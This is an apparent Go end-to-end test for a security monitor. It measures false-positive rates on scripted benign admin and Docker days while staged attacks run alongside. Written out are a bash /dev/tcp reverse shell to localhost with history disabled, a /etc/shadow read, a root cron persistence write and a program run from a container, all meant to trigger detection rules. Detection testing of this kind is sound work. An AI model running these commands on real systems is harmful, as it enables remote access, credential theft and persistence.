package e2e

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// The benign day's budget (README, "Precision"): no critical alert, and at
// most this many warnings per 1,000 programs run.
const benignWarnsPer1000Execs = 5

// An ordinary admin and developer day (testdata/benign-day.sh: apt-get and
// dpkg with a package built here, go build/vet/test/run, git, useradd,
// usermod, chage, su, userdel, ssh-keygen, a tar of /etc, a local web
// server with curl and python clients, logrotate, rootless namespaces, an
// interactive shell fed by a pipe), judged with the default policy, while an
// attack runs beside it: a reverse shell to a listener on 127.0.0.1 that
// reads /etc/shadow and writes a cron job.  The day raises no critical
// alert and stays under the warning budget; the attack ranks first.
func TestBenignDayAndAnAttackBesideIt(t *testing.T) {
	home, err := os.UserHomeDir()
	if err != nil || home == "" {
		home = "/root"
	}
	work, err := os.MkdirTemp(home, "e2e-day-") // a developer's workspace, not /tmp
	if err != nil {
		t.Fatal(err)
	}
	os.Chmod(work, 0o755)
	keepRootHistory(t)
	cron := fmt.Sprintf("/etc/cron.d/e2e-chain-%d", os.Getpid())
	t.Cleanup(func() {
		os.RemoveAll(work)
		os.RemoveAll("/var/log/e2e-day")
		os.Remove(cron)
		exec.Command("apt-get", "purge", "-y", "-q", "e2e-day").Run() // only if the day failed half-way
		keys, _ := filepath.Glob("/root/.ssh/e2eday-*")
		for _, k := range keys {
			os.RemoveAll(k)
		}
	})
	bin := filepath.Join(work, "bin", "helper")
	os.MkdirAll(filepath.Dir(bin), 0o755)
	copyFile(t, helper(t), bin, 0o755)
	script, err := filepath.Abs("testdata/benign-day.sh")
	if err != nil {
		t.Fatal(err)
	}

	// the attacker's end: a listener that types three commands
	port, served := attacker(t, "cat /etc/shadow > /dev/null\necho '* * * * * root true' > "+cron+"\nexit\n")

	m := startMonitor(t, "-i", "1")
	day := exec.Command("bash", script, work, bin)
	var out strings.Builder
	day.Stdout, day.Stderr = &out, &out
	if err := day.Start(); err != nil {
		t.Fatal(err)
	}
	// the attack, while the day runs
	attack := exec.Command("bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
	attack.Env = append(os.Environ(), "HISTFILE=/dev/null")
	if b, err := attack.CombinedOutput(); err != nil {
		t.Fatalf("the attack: %v: %s", err, b)
	}
	if err := <-served; err != nil {
		t.Fatal(err)
	}
	if err := day.Wait(); err != nil {
		t.Fatalf("the benign day failed: %v\n%s", err, out.String())
	}
	m.drain(t)
	// the ranking after both
	done := time.Now()
	stats := m.waitFor(t, 10*time.Second, "stats after the day", func(r rec) bool {
		ts, _ := time.Parse(time.RFC3339Nano, r.str("time"))
		top, _ := r.get("monitor", "top").([]any)
		return r.str("event") == "stats" && ts.After(done) && len(top) > 0
	})
	m.stop(t)

	inDay := inTree(day.Process.Pid)
	execs, warns, crits := 0, 0, 0
	var lines []string
	for _, r := range m.find(inDay) {
		if r.str("event") == "exec" && r.str("error") == "" {
			execs++
		}
		if r.get("rules") == nil || r.get("repeats") != nil {
			continue // not an alert, or a fold summary of one already counted
		}
		switch r.str("severity") {
		case "warn":
			warns++
		case "critical":
			crits++
		default:
			continue
		}
		lines = append(lines, r.str("severity")+" "+r.str("message"))
	}
	if execs < 500 {
		t.Errorf("the day ran %d programs: it did not run (want hundreds)\n%s", execs, out.String())
	}
	rate := 1000 * float64(warns) / float64(max(execs, 1))
	t.Logf("benign day: %d programs, %d warn and %d critical alert lines (%.2f warn per 1,000 programs):\n  %s",
		execs, warns, crits, rate, strings.Join(lines, "\n  "))
	if crits > 0 {
		t.Errorf("the benign day raised %d critical alerts", crits)
	}
	if rate > benignWarnsPer1000Execs {
		t.Errorf("the benign day raised %.2f warnings per 1,000 programs, over the budget of %d", rate, benignWarnsPer1000Execs)
	}
	if f := os.Getenv("E2E_BENIGN_DAY_REPORT"); f != "" { // make precision: the figures for README
		os.WriteFile(f, []byte(fmt.Sprintf("programs %d\nwarn %d\ncritical %d\nwarn_per_1000 %.2f\n", execs, warns, crits, rate)), 0o644)
	}

	// the attack ranks first, with its chain of kinds
	top := stats.get("monitor", "top").([]any)
	first := top[0].(map[string]any)
	inAttack := inTree(attack.Process.Pid)
	if !inAttack(rec{"process": map[string]any{"pid": first["pid"], "ancestry": ancestryOf(m, int(num(first["pid"])))}}) {
		t.Errorf("top #1 is pid %v (%v), not the attack (%d); top: %v", first["pid"], first["exe"], attack.Process.Pid, top)
	}
	rules, _ := first["rules"].(map[string]any)
	for _, want := range []string{"reverse-shell", "credential-read", "persistence-write"} {
		if rules[want] == nil {
			t.Errorf("top #1's rules %v lack %s", rules, want)
		}
	}
}

// ancestryOf is the ancestry the monitor reported for pid's last record.
func ancestryOf(m *monitor, pid int) any {
	var anc any
	for _, r := range m.find(pidIs(pid)) {
		anc = r.get("process", "ancestry")
	}
	return anc
}

// A benign day on a Docker host (testdata/container-day.sh: a classic
// docker build, a service with a health check, docker exec of programs
// that are no shell, docker cp, commit, save and load, export and import),
// judged with the default policy, while an attack runs beside it in
// another container: a shell exec'd into it that runs a program copied in.
// The day's records (its containers, the build's steps, the engine's and
// the docker CLI's own) raise no critical alert and stay under the budget;
// the attack raises shell-in-container and container-drift.
func TestBenignContainerDay(t *testing.T) {
	client, image := dockerImage(t)
	prefix := fmt.Sprintf("e2e-cday-%d", os.Getpid())
	work := t.TempDir()
	script, err := filepath.Abs("testdata/container-day.sh")
	if err != nil {
		t.Fatal(err)
	}
	victim := docker(t, client, "run", "-d", "--name", prefix+"-victim", image, "sleep", "120")
	t.Cleanup(func() {
		for _, c := range []string{"-victim", "-web", "-once"} {
			exec.Command(client, "rm", "-f", prefix+c).Run()
		}
		for _, i := range []string{":1", ":2", ":3"} {
			exec.Command(client, "rmi", "-f", prefix+"-img"+i).Run()
		}
	})
	m := startMonitor(t)

	day := exec.Command("bash", script, client, image, work, prefix)
	var out strings.Builder
	day.Stdout, day.Stderr = &out, &out
	if err := day.Start(); err != nil {
		t.Fatal(err)
	}
	docker(t, client, "exec", prefix+"-victim", "sh", "-c",
		"busybox mkdir -p /tmp/x && cp /bin/busybox /tmp/x/busybox && /tmp/x/busybox true attack-marker")
	if err := day.Wait(); err != nil {
		t.Fatalf("the container day failed: %v\n%s", err, out.String())
	}
	// the marker: an exec of the test's after the day
	pid := runIn(t, "/", "true", "container-day-done")
	m.waitFor(t, 20*time.Second, "the marker after the day", and(eventIs("exec"), pidIs(pid)))
	m.stop(t)

	engine := map[string]bool{"dockerd": true, "containerd": true, "containerd-shim-runc-v2": true, "runc": true}
	inDay := func(r rec) bool {
		if r.str("container", "id") == victim {
			return false
		}
		return strings.HasPrefix(r.str("container", "name"), prefix) || r.get("container", "build") == true ||
			engine[filepath.Base(r.str("process", "exe"))] || inTree(day.Process.Pid)(r)
	}
	execs, warns, crits := 0, 0, 0
	var lines []string
	for _, r := range m.find(inDay) {
		if r.str("event") == "exec" && r.str("error") == "" {
			execs++
		}
		if r.get("rules") == nil || r.get("repeats") != nil {
			continue
		}
		switch r.str("severity") {
		case "warn":
			warns++
		case "critical":
			crits++
		default:
			continue
		}
		lines = append(lines, r.str("severity")+" "+r.str("message")+" "+strings.Join(ruleNames(r), ","))
	}
	if execs < 50 {
		t.Errorf("the container day ran %d programs: it did not run (want about 100)\n%s", execs, out.String())
	}
	rate := 1000 * float64(warns) / float64(max(execs, 1))
	t.Logf("container day: %d programs, %d warn and %d critical alert lines (%.2f warn per 1,000 programs):\n  %s",
		execs, warns, crits, rate, strings.Join(lines, "\n  "))
	if crits > 0 || rate > benignWarnsPer1000Execs {
		t.Errorf("the container day raised %d critical and %.2f warnings per 1,000 programs (budget: 0 and %d)", crits, rate, benignWarnsPer1000Execs)
	}
	if f := os.Getenv("E2E_CONTAINER_DAY_REPORT"); f != "" {
		os.WriteFile(f, []byte(fmt.Sprintf("programs %d\nwarn %d\ncritical %d\nwarn_per_1000 %.2f\n", execs, warns, crits, rate)), 0o644)
	}

	// the attack beside it
	sh := m.find(and(eventIs("exec"), containerIs(victim), func(r rec) bool { return hasRule(r, "shell-in-container") }))
	drift := m.find(and(eventIs("exec"), containerIs(victim), argsAre("/tmp/x/busybox", "true", "attack-marker")))
	if len(sh) == 0 {
		t.Errorf("the shell exec'd into the victim raised no shell-in-container")
	}
	if len(drift) == 0 || !hasRule(drift[0], "container-drift") {
		t.Errorf("the copied program run in the victim: %v, want container-drift", drift)
	}
}
